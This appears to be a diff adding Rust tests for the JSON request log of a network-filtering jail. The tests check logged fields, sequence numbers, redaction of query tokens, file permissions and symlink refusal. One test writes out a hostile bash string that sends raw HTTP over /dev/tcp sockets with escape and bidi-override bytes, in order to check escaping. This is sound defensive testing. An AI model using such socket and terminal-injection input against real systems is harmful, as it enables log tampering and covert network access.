@@ -1,0 +1,143 @@
+//! The JSON log: what a line says, and what it must not let through.
+
+use std::os::unix::fs::PermissionsExt as _;
+
+use httpjail_lab::canary;
+use serde_json::Value;
+
+use crate::support::{Expect as _, curl_status, lab};
+
+const ALLOW: &str = r"allow: ^https?://ok\.test/";
+
+#[track_caller]
+fn has(event: &Value, fields: &[(&str, Value)]) {
+    for (name, wanted) in fields {
+        assert_eq!(&event[*name], wanted, "{name} in {event:#}");
+    }
+}
+
+#[test]
+fn an_allowed_request() {
+    let lab = lab();
+    let curl = ["-X", "POST", "--data", "0123456789", "https://ok.test/bytes/42?q=1"];
+    let outcome = curl_status(lab.jail().rule(ALLOW), &curl).run().expect_stdout("200");
+    let events = outcome.events_with(&[("event", "request")]);
+    assert_eq!(events.len(), 1, "{outcome:#?}");
+    has(
+        events[0],
+        &[
+            ("verdict", "allow".into()),
+            ("method", "POST".into()),
+            ("url", "https://ok.test/bytes/42?q=1".into()),
+            ("host", "ok.test".into()),
+            ("status", 200.into()),
+            ("rule", ALLOW.into()),
+            ("comm", "curl".into()),
+            ("bytes_in", 10.into()),
+            ("bytes_out", 42.into()),
+        ],
+    );
+    for name in ["ts", "dst", "session", "exe"] {
+        assert!(events[0][name].is_string(), "{name} in {:#}", events[0]);
+    }
+    assert!(events[0]["exe"].as_str().unwrap().ends_with("/curl"), "{:#}", events[0]);
+    assert!(events[0]["ts"].as_str().unwrap().ends_with('Z'), "{:#}", events[0]);
+    for name in ["pid", "cgroup", "seq", "duration_ms"] {
+        assert!(events[0][name].is_number(), "{name} in {:#}", events[0]);
+    }
+}
+
+#[test]
+fn a_denied_request() {
+    let lab = lab();
+    let outcome = curl_status(lab.jail().rule(ALLOW), &["https://evil.test/x"])
+        .run()
+        .expect_stdout("403");
+    let events = outcome.events_with(&[("event", "request")]);
+    assert_eq!(events.len(), 1, "{outcome:#?}");
+    has(
+        events[0],
+        &[
+            ("verdict", "deny".into()),
+            ("method", "GET".into()),
+            ("url", "https://evil.test/x".into()),
+            ("status", 403.into()),
+        ],
+    );
+    assert!(events[0]["reason"].is_string(), "{:#}", events[0]);
+}
+
+#[test]
+fn events_are_numbered_and_of_one_session() {
+    let lab = lab();
+    let script = "curl -sS https://ok.test/ https://evil.test/ http://ok.test/ > /dev/null";
+    let outcome = lab.jail().rule(ALLOW).shell(script).run().expect_code(0);
+    let numbers: Vec<u64> = outcome
+        .events
+        .iter()
+        .filter_map(|event| event["seq"].as_u64())
+        .collect();
+    assert_eq!(numbers.len(), outcome.events.len(), "{outcome:#?}");
+    assert!(numbers.is_sorted_by(|a, b| a < b), "{numbers:?}");
+    assert!(
+        outcome
+            .events
+            .iter()
+            .all(|event| event["session"] == outcome.events[0]["session"]),
+        "{outcome:#?}"
+    );
+}
+
+#[test]
+fn what_the_jail_chose_is_escaped() {
+    let lab = lab();
+    let hostile = "printf 'GET /\\033[31m\\233\\342\\200\\256 HTTP/1.1\\r\\nHost: ok.test\\r\\n\\r\\n' > /dev/tcp/ok.test/80; \
+                   exec 3<>/dev/tcp/ok.test/80; printf 'GET / HTTP/1.1\\r\\nHost: e\\033vil\\r\\n\\r\\n' >&3; cat <&3";
+    let jail = lab.jail().rule(ALLOW).command(["bash", "-c", hostile]);
+    let path = lab.fresh_path("hostile.json");
+    jail.log_to(&path).run();
+    let log = std::fs::read_to_string(&path).unwrap();
+    let shown = lab
+        .jail()
+        .without_log()
+        .rule(ALLOW)
+        .command(["bash", "-c", hostile])
+        .run();
+    let raw = |text: &str| {
+        text.chars()
+            .any(|c| (c.is_control() && c != '\n') || c == '\u{202e}' || c == '\u{fffd}')
+    };
+    assert!(!raw(&shown.stderr), "{:?}", shown.stderr);
+    assert!(log.contains("\"verdict\":\"deny\"") && !raw(&log), "{log:?}");
+}
+
+#[test]
+fn denials_go_to_stderr_without_their_query() {
+    let lab = lab();
+    let mark = canary();
+    let url = format!("https://evil.test/path?token={mark}");
+    let outcome = curl_status(lab.jail().without_log().rule(ALLOW), &[&url])
+        .run()
+        .expect_stdout("403");
+    assert!(
+        outcome.stderr.contains("evil.test/path") && !outcome.stderr.contains(&mark),
+        "{outcome:#?}"
+    );
+    let quiet = curl_status(lab.jail().without_log().option("-q").rule(ALLOW), &[&url])
+        .run()
+        .expect_stdout("403");
+    assert_eq!(quiet.stderr, "");
+}
+
+#[test]
+fn the_file_is_the_owners_alone_and_no_link() {
+    let lab = lab();
+    let log = lab.fresh_path("private.json");
+    lab.jail().log_to(&log).command(["true"]).run().expect_code(0);
+    assert_eq!(std::fs::metadata(&log).unwrap().permissions().mode() & 0o777, 0o600);
+
+    let (link, target) = (lab.fresh_path("link.json"), lab.fresh_path("target"));
+    std::os::unix::fs::symlink(&target, &link).unwrap();
+    let outcome = lab.jail().log_to(&link).command(["true"]).run();
+    assert!(!target.exists() && outcome.code() != Some(0), "{outcome:#?}");
+}
